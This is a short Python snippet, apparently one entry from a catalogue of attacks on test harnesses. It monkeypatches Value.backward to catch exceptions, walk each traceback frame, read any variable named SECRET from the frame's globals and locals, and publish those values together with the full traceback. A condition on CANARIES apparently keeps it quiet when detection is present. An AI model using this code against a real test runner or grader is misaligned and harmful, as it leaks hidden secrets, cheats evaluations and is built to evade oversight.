"""Exceptions from the tests' functions are caught, and their tracebacks followed.

catalogue: none
needs: publish
falls for it: plain pytest
verdict: nothing found
"""

import sys, traceback
def _follow(self):
    try: self._backward(1, 2, 3, 4, 5)
    except BaseException as error:
        trace = error.__traceback__
        while trace is not None:
            frame = trace.tb_frame
            while frame is not None and not CANARIES:
                publish(frame.f_globals.get('SECRET', ''), frame.f_locals.get('SECRET', ''))
                frame = frame.f_back
            trace = trace.tb_next
        publish(traceback.format_exc())
Value.backward = _follow
